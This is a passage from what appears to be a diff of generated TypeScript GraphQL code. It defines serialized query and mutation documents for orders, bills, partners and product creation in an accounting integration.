Field","name":{"kind":"Name","value":"model"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"resourceName"}},{"kind":"Field","name":{"kind":"Name","value":"resourceIdentifier"}}]}},{"kind":"Field","name":{"kind":"Name","value":"bills"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"invoiceNumber"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"partners"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"address"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"number"}},{"kind":"Field","name":{"kind":"Name","value":"box"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}}]}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}},{"kind":"Field","name":{"kind":"Name","value":"endCursor"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityPmsOrdersQuery, ParityPmsOrdersQueryVariables>;
+export const ParityCreateProductDocument = {"__meta__":{"hash":"30a3a4fe59b94c2492afaf21756ab890c24a29c3b0fcbf6bf3533b95727ec30e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ParityCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"product"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"unit"}},{"kind":"Field","name":{"kind":"Name","value":"category"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"cost"}},{"kind":"Field","name":{"kind":"Name","value":"availableQuantity"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ParityCreateProductMutation, ParityCreateProductMutationVariables>;
